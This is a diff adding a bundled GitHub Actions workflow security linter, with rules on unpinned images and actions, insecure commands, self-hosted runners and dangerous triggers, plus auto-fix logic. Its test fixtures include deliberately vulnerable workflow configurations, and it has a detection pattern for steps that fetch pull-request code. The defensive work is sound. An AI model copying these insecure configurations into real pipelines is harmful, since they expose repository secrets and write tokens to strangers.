+        image: ["debian", "debian@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"]
+        include:
+          - image: fedora:latest
+    runs-on: ubuntu-latest
+    container: \${{ matrix.image }}
+    steps:
+      - run: make test
+`,
+                at: [7, 9],
+                confidence: "high",
+            },
+            {
+                text: `on:
+  workflow_call:
+    inputs:
+      image: {type: string}
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container: \${{ inputs.image }}
+    steps:
+      - run: make test
+`,
+                at: [9],
+                confidence: "low",
+            },
+            {
+                path: "act/action.yml",
+                text: `name: scan
+description: scans
+runs:
+  using: docker
+  image: docker://registry.example.com/scan:latest
+`,
+                at: [5],
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container: node@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
+    services:
+      db:
+        image: \${{ github.event_name == 'push' && 'db@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb' || '' }}
+    steps:
+      - run: make test
+`,
+                persona: "pedantic",
+                because: "each is pinned to a digest; an empty image means no container",
+            },
+            {
+                path: "act/action.yml",
+                text: `name: scan
+description: scans
+runs:
+  using: docker
+  image: Dockerfile
+`,
+                because: "the image is built from the repository",
+            },
+        ],
+    },
+    container({ image }, job, report) {
+        if (image)
+            unpinned_images_judge(image, image.value, job.matrix, report);
+    },
+    uses({ uses }, report) {
+        if (uses.target.kind === "docker")
+            judgeReference(uses.scalar, uses.target.image, [], report);
+    },
+    action(action, report) {
+        const image = action.kind === "docker" ? action.image : undefined;
+        if (!image?.value.startsWith("docker://"))
+            return;
+        unpinned_images_judge(image, image.value.slice("docker://".length), null, report);
+    },
+}));
+function unpinned_images_judge(scalar, text, matrix, report) {
+    const whole = wholeExpression(scalar)?.expression;
+    if (whole)
+        for (const leaf of resultLeaves(whole))
+            judgeLeaf(scalar, leaf, matrix, report);
+    else
+        judgeReference(scalar, parseImage(text), [], report);
+}
+function judgeLeaf(scalar, leaf, matrix, report) {
+    if (leaf.kind === "literal") {
+        if (typeof leaf.value === "string")
+            judgeReference(scalar, parseImage(leaf.value), [], report);
+        return;
+    }
+    const path = contextPath(leaf);
+    if (path?.segments[0] !== "matrix" || !matrix) {
+        sayUnknown(scalar, report);
+        return;
+    }
+    const { values, isOpen } = matrix.valuesOf(path.segments.slice(1));
+    for (const value of values) {
+        if (expressionsIn(value).length > 0)
+            sayUnknown(scalar, report);
+        else
+            judgeReference(value, parseImage(value.value), [{ place: scalar, message: "it is used here" }], report);
+    }
+    if (isOpen && values.length === 0)
+        sayUnknown(scalar, report);
+}
+function sayUnknown(scalar, report) {
+    report(scalar, "The image comes from an expression, so nothing shows that it is pinned", { confidence: "low" });
+}
+function judgeReference(place, image, related, report) {
+    if (image.name === "" || image.digest !== null)
+        return;
+    const isOpen = image.text.includes("${{");
+    const confidence = isOpen ? "medium" : "high";
+    if (image.tag === null && isOpen)
+        sayUnknown(place, report);
+    else if (image.tag === null)
+        report(place, `\`${image.text}\` names neither a tag nor a digest: it is whatever \`latest\` is today`, {
+            related,
+        });
+    else if (image.tag === "latest")
+        report(place, `\`${image.text}\` is whatever was pushed last`, { related });
+    else {
+        const message = `\`${image.text}\` is a tag, which can be pushed again, not a digest`;
+        report(place, message, { severity: "low", confidence, persona: "pedantic", related });
+    }
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-uses.js
+
+
+/** Builders whose verifiers know them by their tag: called at a commit they refuse to work. */
+const MUST_STAY_ON_TAG = [
+    "slsa-framework/slsa-github-generator/.github/workflows/",
+    "slsa-framework/slsa-github-generator/actions/",
+];
+/* harmony default export */ const unpinned_uses = (defineRule({
+    id: "unpinned-uses",
+    category: "pinning",
+    severity: "high",
+    isZizmor: true,
+    summary: "An action or reusable workflow is not pinned to a commit",
+    risk: "A tag or branch can be moved to other code at any time, by its owner or by whoever took over the account. That code then runs in your job with its secrets and its token.",
+    mend: "Name the full 40-digit commit and keep the version as a comment: `uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.2.3`. `trustchain pin-actions-to-sha` finds them all.",
+    sources: ["https://docs.github.com/actions/reference/security/secure-use#using-third-party-actions"],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: octo-org/checkout@v4
+      - {name: quoted, uses: "octo-org/thing/sub/dir@main"}
+      - uses: octo-org/short@1234567
+`,
+                at: [7, 8, 9],
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: octo-org/workflows/.github/workflows/build.yml@v1
+`,
+                at: [5],
+            },
+            {
+                path: "act/action.yml",
+                text: `name: composite
+description: calls another action
+runs:
+  using: composite
+  steps:
+    - uses: octo-org/thing@v1
+`,
+                at: [6],
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - &checkout
+        uses: octo-org/checkout@v4
+      - *checkout
+  b:
+    runs-on: ubuntu-latest
+    steps: [*checkout]
+`,
+                at: [8],
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  provenance:
+    uses: slsa-framework/slsa-github-generator/.github/workflows/generator_generic_slsa3.yml@v2.1.0
+`,
+                at: [5],
+                severity: "info",
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: octo-org/checkout@1234567890abcdef1234567890abcdef12345678 # v4.1.0
+`,
+                because: "it is pinned to a commit",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: ./actions/own
+      - uses: $/actions/own
+      - run: |
+          echo "uses: octo-org/thing@v1"
+`,
+                because: "local actions come with the commit that runs, and text in a script is no reference",
+            },
+        ],
+    },
+    uses({ uses }, report) {
+        const { target } = uses;
+        if (target.kind !== "repository" || isCommit(target.ref))
+            return;
+        if (mustStayOnTag(target)) {
+            report(uses.scalar, `\`${uses.text}\` has to be called by a version tag, so it can't be pinned`, {
+                severity: "info",
+            });
+        }
+        else {
+            report(uses.scalar, `${describe(target)}, not a full commit SHA`);
+        }
+    },
+}));
+function describe({ owner, repo, path, ref }) {
+    const name = [owner, repo, path].filter((part) => part !== "").join("/");
+    if (/^[0-9a-f]{7,39}$/.test(ref))
+        return `\`${name}\` is at \`${ref}\`, which looks like a shortened commit`;
+    return `\`${name}\` is at \`${ref}\``;
+}
+function mustStayOnTag(target) {
+    const name = nameOf(target);
+    return /^v\d+\.\d+\.\d+/.test(target.ref) && MUST_STAY_ON_TAG.some((prefix) => name.startsWith(prefix));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/insecure-commands.js
+
+
+
+const insecure_commands_SWITCH = "ACTIONS_ALLOW_UNSECURE_COMMANDS";
+/* harmony default export */ const insecure_commands = (defineRule({
+    id: "insecure-commands",
+    category: "runner",
+    severity: "high",
+    isZizmor: true,
+    fixes: "safe",
+    summary: "Workflow commands that set environment variables are switched back on",
+    risk: "Anything that prints to the log can then set variables and `PATH` for the steps that follow: a test's output is enough to run code.",
+    mend: "Remove `ACTIONS_ALLOW_UNSECURE_COMMANDS`; write to the files that `GITHUB_ENV` and `GITHUB_PATH` name.",
+    sources: ["https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/"],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+env:
+  ACTIONS_ALLOW_UNSECURE_COMMANDS: true
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env: {LEVEL: 1, ACTIONS_ALLOW_UNSECURE_COMMANDS: "True"}
+    steps:
+      - run: make
+        env:
+          LEVEL: 2
+          ACTIONS_ALLOW_UNSECURE_COMMANDS: 1
+`,
+                at: [4, 8, 13],
+                fixed: `on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    env: {LEVEL: 1}
+    steps:
+      - run: make
+        env:
+          LEVEL: 2
+`,
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+        env:
+          ACTIONS_ALLOW_UNSECURE_COMMANDS: \${{ vars.UNSECURE }}
+`,
+                at: [9],
+                confidence: "low",
+                persona: "auditor",
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    # ACTIONS_ALLOW_UNSECURE_COMMANDS: true
+    env:
+      ACTIONS_ALLOW_UNSECURE_COMMANDS: false
+    steps:
+      - run: make
+`,
+                because: "it is off, and a comment sets nothing",
+            },
+        ],
+    },
+    env({ block }, report) {
+        if (block.dynamic) {
+            const message = `This block is an expression, which may set \`${insecure_commands_SWITCH}\``;
+            report(block.dynamic, message, { confidence: "low", persona: "auditor" });
+        }
+        for (const { entry, name, value } of block.entries) {
+            if (name.toUpperCase() !== insecure_commands_SWITCH)
+                continue;
+            if (isSwitchedOn(value)) {
+                const edit = (block.map && removeEntry(block.map, entry)) ?? removeEntry(block.parent, block.entry);
+                const fix = edit && { description: `remove \`${insecure_commands_SWITCH}\``, safe: true, edits: [edit] };
+                report(entry.key, "Any line of the log may set environment variables", { fix });
+            }
+            else if (value && expressionsIn(value).length > 0) {
+                const message = `An expression decides whether any line of the log may set environment variables`;
+                report(value, message, { confidence: "low", persona: "auditor" });
+            }
+        }
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/gates.js
+
+/**
+ * Do conditions keep a stranger's run out of a job?
+ *
+ * The job's `if:` and those of the jobs that it needs are evaluated for a run that somebody without write access starts by
+ * `event`, from a fork. What can't be known counts as passable.
+ */
+function keepsStrangersOut(job, event) {
+    return isStopped(job, event, new Set());
+}
+function isStopped(job, event, above) {
+    if (above.has(job))
+        return false;
+    const condition = conditionOf(job);
+    if (condition && truthiness(evaluate(condition, { lookup: strangersContext(condition, event) })) === false)
+        return true;
+    // A skipped job skips those that need it, unless their condition asks for their status itself.
+    if (condition && asksForStatus(condition))
+        return false;
+    const path = new Set([...above, job]);
+    return job.needs.some(({ value }) => {
+        const needed = job.workflow.job(value);
+        return needed !== undefined && isStopped(needed, event, path);
+    });
+}
+function conditionOf(job) {
+    const scalar = job.condition;
+    if (!scalar)
+        return undefined;
+    const condition = parseCondition(scalar.value);
+    return condition.kind === "expression" ? condition.expression : undefined;
+}
+const STATUS_FUNCTIONS = new Set(["always", "cancelled", "failure"]);
+function asksForStatus(condition) {
+    let asks = false;
+    visitExpression(condition, (node) => {
+        if (node.kind === "call" && STATUS_FUNCTIONS.has(node.name))
+            asks = true;
+    });
+    return asks;
+}
+const gates_UNKNOWN = { known: false };
+function gates_known(value) {
+    return { known: true, value };
+}
+/** What is sure about such a run. The repository's name is whatever the condition compares it with: that test passes. */
+function strangersContext(condition, event) {
+    const repository = repositoryIn(condition);
+    const facts = new Map([
+        ["github.event_name", gates_known(event)],
+        ["github.repository", gates_known(repository)],
+        ["github.repository_owner", gates_known(repository.split("/")[0])],
+    ]);
+    if (event.startsWith("pull_request")) {
+        facts.set("github.event.pull_request.head.repo.fork", gates_known(true));
+        facts.set("github.event.pull_request.head.repo.full_name", gates_known("a-stranger/fork"));
+        facts.set("github.event.pull_request.head.repo.owner.login", gates_known("a-stranger"));
+        facts.set("github.event.pull_request.head.user.login", gates_known("a-stranger"));
+        facts.set("github.event.pull_request.base.repo.full_name", gates_known(repository));
+        facts.set("github.event.repository.full_name", gates_known(repository));
+    }
+    return (path) => facts.get(path.join(".")) ?? gates_UNKNOWN;
+}
+/** `owner/repo` where the condition compares `github.repository` with it, and the owner it compares the owner with. */
+function repositoryIn(condition) {
+    let repository = "";
+    let owner = "";
+    visitExpression(condition, (node) => {
+        if (node.kind !== "binary")
+            return;
+        for (const [side, other] of [
+            [node.left, node.right],
+            [node.right, node.left],
+        ]) {
+            if (other.kind !== "literal" || typeof other.value !== "string")
+                continue;
+            const name = references(side)[0]?.segments.join(".");
+            if (name === "github.repository" && other.value.includes("/"))
+                repository = other.value;
+            if (name === "github.repository_owner")
+                owner = other.value;
+        }
+    });
+    return repository || `${owner || "this-owner"}/this-repository`;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/runner/self-hosted-runner.js
+
+
+
+/* harmony default export */ const self_hosted_runner = (defineRule({
+    id: "self-hosted-runner",
+    category: "runner",
+    severity: "high",
+    isZizmor: true,
+    summary: "Runs that strangers start land on a self-hosted runner",
+    risk: "A self-hosted machine is used again for later runs and stands in your network. What a stranger's pull request leaves on it waits for the next job and its secrets.",
+    mend: "Run jobs for pull requests on GitHub's machines, or on runners that are thrown away after each job; or let the job run only for branches of this repository: `if: github.event.pull_request.head.repo.full_name == github.repository`.",
+    sources: ["https://docs.github.com/actions/reference/security/secure-use#hardening-for-self-hosted-runners"],
+    examples: {
+        flagged: [
+            {
+                text: `on: pull_request
+permissions: {}
+jobs:
+  test:
+    runs-on: [self-hosted, linux]
+    steps:
+      - run: make test
+`,
+                at: [5],
+                severity: "high",
+            },
+            {
+                text: `on: [push, pull_request]
+permissions: {}
+jobs:
+  test:
+    strategy:
+      matrix:
+        os: [ubuntu-24.04, self-hosted]
+    runs-on: \${{ matrix.os }}
+    steps:
+      - run: make test
+`,
+                at: [7],
+                severity: "high",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a:
+    runs-on: self-hosted
+    steps:
+      - run: make test
+  b:
+    runs-on: {group: big}
+    steps:
+      - run: make test
+  c:
+    runs-on: \${{ vars.RUNNER }}
+    steps:
+      - run: make test
+`,
+                at: [5, 9, 13],
+                persona: "auditor",
+                severity: "medium",
+            },
+        ],
+        silent: [
+            {
+                text: `on: pull_request
+permissions: {}
+jobs:
+  test:
+    if: github.event.pull_request.head.repo.full_name == github.repository
+    runs-on: self-hosted
+    steps:
+      - run: make test
+  after:
+    needs: test
+    runs-on: self-hosted
+    steps:
+      - run: make report
+`,
+                because: "pull requests of forks don't reach it",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: self-hosted
+    steps:
+      - run: make test
+`,
+                because: "only people with write access start it; an auditor still hears of it",
+            },
+            {
+                text: `on: pull_request
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-24.04
+    steps:
+      - run: echo self-hosted
+`,
+                because: "the runner is GitHub's",
+            },
+        ],
+    },
+    job(job, report) {
+        const { runner } = job;
+        if (!runner)
+            return;
+        const selfHosted = runner.labels.filter(({ text }) => text.toLowerCase() === "self-hosted");
+        if (selfHosted.length > 0) {
+            const events = eventsThatReach(job, job.workflow);
+            for (const label of selfHosted)
+                reportLabel(label, runner, events, report);
+            return;
+        }
+        if (runner.group)
+            reportUnsure(runner.group, "A runner group may hold self-hosted runners", report);
+        else if (runner.isOpen)
+            reportUnsure(runner.entry.value, "This expression may come to a self-hosted runner", report);
+    },
+}));
+/** Events by which strangers can start the job; conditions that keep them out are seen through. */
+function eventsThatReach(job, workflow) {
+    const events = workflow.triggers.map((trigger) => trigger.event).filter(isFiredByAnyone);
+    return events.filter((event) => !keepsStrangersOut(job, event));
+}
+function reportLabel(label, runner, events, report) {
+    const related = label.fromMatrix ? [{ place: runner.entry.value, message: "it is used here" }] : [];
+    const [event] = events;
+    if (event !== undefined) {
+        report(label.node, `Strangers can start this job by \`${event}\`, and it runs on a self-hosted runner`, {
+            related,
+        });
+    }
+    else {
+        report(label.node, "This job runs on a self-hosted runner", { severity: "medium", persona: "auditor", related });
+    }
+}
+function reportUnsure(place, message, report) {
+    report(place, message, { severity: "medium", confidence: "low", persona: "auditor" });
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/triggers/dangerous-triggers.js
+
+
+const WHY = {
+    pull_request_target: "`pull_request_target` runs with this repository's secrets and token for pull requests of strangers",
+    workflow_run: "`workflow_run` runs with this repository's secrets and token after workflows that strangers can start",
+    issue_comment: "`issue_comment` runs with this repository's secrets and token whenever a stranger writes a comment",
+};
+/* harmony default export */ const dangerous_triggers = (defineRule({
+    id: "dangerous-triggers",
+    category: "triggers",
+    severity: "high",
+    isZizmor: true,
+    summary: "Strangers can start this workflow with the repository's own rights",
+    risk: "The run has a write token and the secrets, and its cache is the default branch's. One step that builds, tests or only prints what the stranger sent gives all of that away.",
+    mend: "Use `pull_request`, which gets neither secrets nor a write token from a fork. Where that isn't enough, split the work: an unprivileged workflow for the stranger's code, and one for the rest that only reads its results as data.",
+    sources: [
+        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+        "https://docs.github.com/actions/reference/workflows-and-actions/events-that-trigger-workflows#pull_request_target",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on:
+  push:
+  pull_request_target:
+    types: [opened]
+permissions:
+  contents: write
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`,
+                at: [3],
+                confidence: "medium",
+            },
+            {
+                text: `on: [push, workflow_run, issue_comment]
+permissions:
+  issues: write
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+`,
+                at: [1, 1],
+            },
+            {
+                text: `on: issue_comment
+permissions: {}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hello
+`,
+                at: [1],
+                confidence: "low",
+            },
+        ],
+        silent: [
+            {
+                text: `on: pull_request_target
+permissions:
+  contents: read
+  pull-requests: write
+jobs:
+  label:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/labeler@1234567890abcdef1234567890abcdef12345678
+`,
+                because: "a lone labeler step runs nothing that the stranger wrote",
+            },
+            {
+                text: `on: pull_request
+permissions: {}
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "pull_request_target"
+`,
+                because: "the trigger is `pull_request`",
+            },
+        ],
+    },
+    workflow(workflow, report) {
+        for (const trigger of workflow.triggers) {
+            const message = WHY[trigger.event];
+            if (message === undefined || isLoneLabeler(trigger, workflow))
+                continue;
+            const isHarmless = workflow.jobs.every((job) => holdsNothing(holdingsOf(job)) && !bringsInOthersCode(job));
+            report(trigger.key, message, { confidence: isHarmless ? "low" : "medium" });
+        }
+    },
+}));
+function isLoneLabeler(trigger, workflow) {
+    const [job, ...others] = workflow.jobs;
+    if (trigger.event !== "pull_request_target" || job?.kind !== "normal" || others.length > 0)
+        return false;
+    return job.steps.length === 1 && job.steps[0]?.uses?.is("actions/labeler") === true;
+}
+/** May code or files that the run's cause brought get into the job? Whatever isn't plainly harmless counts. */
+function bringsInOthersCode(job) {
+    return job.kind === "reusable" || job.steps.some(fetchesOthersCode);
+}
+const FETCHES = /\bgh\s+(?:pr|run)\b|refs\/pull|\bpull\/|\bgit\b|head_|head\./;
+function fetchesOthersCode(step) {
+    const { uses, run } = step;
+    if (run)
+        return FETCHES.test(run.text);
+    if (!uses)
+        return false;
+    if (uses.is("actions/checkout"))
+        return step.input("ref") !== undefined || step.input("repository") !== undefined;
+    return uses.target.kind !== "repository" || !uses.text.startsWith("actions/") || uses.is("actions/download-artifact");
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/index.generated.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Every rule, sorted by id. */
+const RULES = [
+    artipacked,
+    dangerous_triggers,
+    excessive_permissions,
+    github_env,
+    hardcoded_container_credentials,
+    insecure_commands,
+    secrets_inherit,
+    self_hosted_runner,
+    suppression_without_reason,
+    template_injection,
+    unpinned_images,
+    unpinned_uses,
+    unreadable_file,
+    unused_suppression,
+];
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/judge.js
+
+
+
+
+
+
+
+/**
+ * Reads and judges one repository.
+ *
+ * @param root its folder
+ */
+async function analyzeRepository(root, options = {}) {
+    const config = options.config ?? NO_CONFIG;
+    const only = options.only ?? null;
+    const repository = await readRepository(root, {
+        isIgnored: config.isIgnored,
+        also: only?.length === 1 ? only[0] : null,
+        ...(options.edited && { edited: options.edited }),
+    });
+    return judge_judge(repository, { ...options, config });
+}
+/** Judges a repository that has been read. */
+async function judge_judge(repository, options = {}) {
+    const config = options.config ?? NO_CONFIG;
+    const persona = options.persona ?? config.persona ?? "regular";
+    const only = options.only ? new Set(options.only) : null;
+    const isJudged = (path) => only === null || only.has(path);
+    const rules = (options.rules ?? RULES).filter((rule) => config.rules.get(rule.id)?.isOff !== true);
+    await prepareShells();
+    const { findings: drafts, errors } = analyze(repository, {
+        rules,
+        persona,
+        personas: personasOf(config),
+        isJudged,
+    });
+    const settled = applySettings((0,lib/* fingerprintFindings */.f5)(drafts), config);
+    const silenced = applyIgnoreComments(repository, settled, { rules, persona, isJudged });
+    return {
+        findings: (0,lib/* sortFindings */.Tc)(silenced),
+        errors,
+        files: [...repository.sources.keys()].filter(isJudged).length,
+        sources: repository.sources,
+    };
+}
+function personasOf(config) {
+    return new Map([...config.rules].flatMap(([id, { persona }]) => (persona ? [[id, persona]] : [])));
+}
+/** The severities that settings give, and the places that they silence. */
+function applySettings(findings, config) {
+    if (config.rules.size === 0)
+        return findings;
+    return findings.map((finding) => {
+        const settings = config.rules.get(finding.rule);
+        if (!settings)
+            return finding;
+        const { path, startLine } = finding.location;
+        const isIgnored = settings.ignore.some(({ matches, line }) => matches(path) && (line === null || line === startLine));
+        const reason = settings.reason ?? `ignored in ${config.path}`;
+        return {
+            ...finding,
+            severity: settings.severity ?? finding.severity,
+            suppressed: isIgnored ? { by: "config", reason } : finding.suppressed,
+        };
+    });
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/same-meaning.js
+/**
+ * Did edits change only what they touch? Every node that no edit reaches must be there afterwards, with the same value;
+ * in a mapping that an edit reaches, keys may be added.
+ *
+ * @param edits as they were applied to the text of `before`
+ */
+function keepsMeaning(before, after, edits) {
+    if (!before || !after)
+        return before === after;
+    const touching = edits.filter((edit) => touches(edit, before));
+    if (touching.length === 0)
+        return isSame(before, after);
+    if (before.kind === "scalar")
+        return true;
+    if (before.kind !== after.kind)
+        return false;
+    if (before.kind === "seq" && after.kind === "seq") {
+        return (before.items.length === after.items.length &&
+            before.items.every((item, i) => keepsMeaning(item.value, after.items[i]?.value, touching)));
+    }
+    return before.kind === "map" && after.kind === "map" && keepsEntries(before.entries, after.entries, touching);
+}
+function keepsEntries(before, after, edits) {
+    const left = [...after];
+    return before.every((entry) => {
+        if (edits.some((edit) => edit.start <= entry.key.start && edit.end > entry.key.start))
+            return true;
+        const index = left.findIndex((other) => other.key.value === entry.key.value);
+        if (index === -1)
+            return false;
+        const [match] = left.splice(index, 1);
+        return keepsMeaning(entry.value, match.value, edits);
+    });
+}
+/** Collections are touched at their ends, too: that is where keys are added. Scalars only inside. */
+function touches(edit, node) {
+    if (node.kind === "scalar" && !node.isEmpty) {
+        return edit.start === edit.end
+            ? edit.start > node.start && edit.start < node.end
+            : edit.start < node.end && edit.end > node.start;
+    }
+    return edit.start <= lineEnd(node) && edit.end >= node.start;
+}
+/** A comment behind a collection's last value belongs to its line. */
+function lineEnd(node) {
+    const { text } = node.file;
+    let end = node.end;
+    while (end < text.length && text[end] !== "\n" && text[end] !== "\r")
+        end++;
+    return end;
+}
+function isSame(a, b) {
+    if (a.kind === "scalar")
+        return b.kind === "scalar" && a.value === b.value && Object.is(a.typed, b.typed) && a.tag === b.tag;
+    if (a.kind === "seq") {
+        return (b.kind === "seq" &&
+            a.items.length === b.items.length &&
+            a.items.every((item, i) => isSame(item.value, b.items[i].value)));
+    }
+    return (b.kind === "map" &&
+        a.entries.length === b.entries.length &&
+        a.entries.every((entry, i) => {
+            const other = b.entries[i];
+            return entry.key.value === other.key.value && isSame(entry.value, other.value);
+        }));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/fix.js
+
+
+
+
+
+
+/** Fixes may make room for others; more rounds than this would mean that two rules undo each other. */
+const MAX_PASSES = 10;
+/**
+ * Applies fixes until none is left: each round takes those that don't overlap, checks every file that they change, and
+ * judges the repository again. Nothing is written; see `writeChanged`.
+ *
+ * @param rejudge judges the repository with these texts in place of what is on disk
+ */
+async function applyFixes(first, mode, rejudge) {
+    const edited = new Map();
+    const refused = new Set();
+    const notes = [];
+    let judgement = first;
+    for (let pass = 0; pass < MAX_PASSES; pass++) {
+        const candidates = judgement.findings.filter((finding) => !refused.has(finding.fingerprint));
+        const { files } = (0,lib/* selectFixes */._u)(candidates, mode);
+        let hasChanged = false;
+        for (const { path, edits, findings } of files) {
+            const source = judgement.sources.get(path);
+            if (!source)
+                continue;
+            const after = await editChecked(source, edits, findings, mode, (finding, why) => {
+                refused.add(finding.fingerprint);
+                notes.push(`${path}:${finding.location.startLine}: the fix of ${finding.rule} is not applied: ${why}`);
+            });
+            if (after === source.text)
+                continue;
+            edited.set(path, after);
+            hasChanged = true;
+        }
+        if (!hasChanged)
+            break;
+        judgement = await rejudge(edited);
+    }
+    const changed = [...edited].map(([path, after]) => ({
+        path,
+        before: first.sources.get(path).text,
+        after,
+    }));
+    return { changed: changed.filter(({ before, after }) => before !== after), judgement, notes };
+}
+/** All edits of a file at once; where that breaks it, fix by fix, without those that do. */
+async function editChecked(source, edits, findings, mode, refuse) {
+    if ((await fix_problemWith(source, edits)) === null)
+        return (0,lib/* applyEdits */.ct)(source.text, edits);
+    const sound = [];
+    for (const finding of findings) {
+        const own = (0,lib/* selectFixes */._u)([finding], mode).files[0]?.edits ?? [];
+        const why = await fix_problemWith(source, own);
+        if (why === null)
+            sound.push(finding);
+        else
+            refuse(finding, why);
+    }
+    const together = (0,lib/* selectFixes */._u)(sound, mode).files[0]?.edits ?? [];
+    return (await fix_problemWith(source, together)) === null ? (0,lib/* applyEdits */.ct)(source.text, together) : source.text;
+}
+/** Null when the file still parses and nothing but what the edits touch means something else. */
+async function fix_problemWith(source, edits) {
+    const before = await (0,yaml/* parseYaml */.hN)(source);
+    const after = await (0,yaml/* parseYaml */.hN)(new lib/* SourceFile */.sC(source.path, (0,lib/* applyEdits */.ct)(source.text, edits)));
+    if (after.problems.length > before.problems.length)
+        return "the file would no longer parse";
+    return keepsMeaning(before.root, after.root, edits) ? null : "it would change other parts of the file";
+}
+/**
+ * Writes changed files, each whole or not at all.
+ *
+ * @throws UserError when a file is no longer what was judged, or can't be written
+ */
+function writeChanged(root, changed) {
+    for (const { path, before } of changed) {
+        if ((0,external_node_fs_.readFileSync)((0,external_node_path_.join)(root, path), "utf8") === before)
+            continue;
+        throw new action_kit_lib/* UserError */.yo(path, "it changed while it was judged, so nothing was written", "run the command again");
+    }
+    for (const { path, after } of changed)
+        (0,action_kit_lib/* writeFileWhole */.tG)((0,external_node_path_.join)(root, path), after, path);
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/settings.js
+
+
+
+
+
+
+/**
+ * The settings of a repository: the file that was named, else `.github/trustchain.yml`, else none.
+ *
+ * @throws UserError when it can't be read or understood
+ */
+async function loadConfig(root, named, cwd, ruleIds) {
+    const path = named === undefined ? (0,external_node_path_.join)(root, CONFIG_PATH) : (0,external_node_path_.resolve)(cwd, named);
+    if (named === undefined && !(0,external_node_fs_.existsSync)(path))
+        return NO_CONFIG;
+    return parseConfig(read(path, named ?? CONFIG_PATH, "--config"), ruleIds);
+}
+/** @throws UserError when it can't be read or is no baseline */
+function loadBaseline(named, cwd) {
+    const file = read((0,external_node_path_.resolve)(cwd, named), named, "--baseline");
+    try {
+        return (0,lib/* parseBaseline */.nk)(file.text, named);
+    }
+    catch (error) {
+        if (!(error instanceof lib/* FormatError */.IF))
+            throw error;
+        throw new action_kit_lib/* UserError */.yo(error.file, error.reason, error.remedy);
+    }
+}
+function read(path, shown, option) {
+    const result = readSource(path, shown);
+    if (result.ok)
+        return result.file;
+    throw new action_kit_lib/* UserError */.yo(`${option} ${shown}`, `it can't be read: ${result.reason}`, "name a file that can be read");
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/targets.js
+
+
+
+/**
+ * The repositories that paths mean, each once, in the order in which they are first named.
+ *
+ * @throws UserError for a path where nothing is
+ */
+function targetsOf(paths, cwd) {
+    const targets = new Map();
+    for (const path of paths) {
+        const located = locateRepository((0,external_node_path_.resolve)(cwd, path));
+        if (!located)
+            throw new action_kit_lib/* UserError */.yo(path, "there is no such file or folder", "name a repository's folder or a file");
+        const { root, only } = located;
+        const known = targets.get(root);
+        if (!known)
+            targets.set(root, { root, only: only === null ? null : [only], prefix: prefixOf(path, root, only, cwd) });
+        else if (only === null || known.only === null)
+            known.only = null;
+        else
+            known.only.push(only);
+    }
+    const all = [...targets.values()];
+    return all.length === 1 ? all.map((target) => ({ ...target, prefix: "" })) : all;
+}
+/** As it was given, where it names the repository itself. */
+function prefixOf(path, root, only, cwd) {
+    const isRoot = only === null && (0,external_node_path_.resolve)(cwd, path) === root;
+    return (isRoot ? path : (0,external_node_path_.relative)(cwd, root)).replaceAll("\\", "/").replace(/\/+$/, "");
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/static-check.js
+
+
+
+
+
+
+
+
+const RULE_INFO = new Map(RULES.map((rule) => [rule.id, rule]));
+/** Runs rules over the repositories that were named: evidence, model, judgement, and what the kit needs to report it. */
+async function staticCheck({ inputs, host, request }, check) {
+    const targets = targetsOf(inputs.paths, host.cwd);
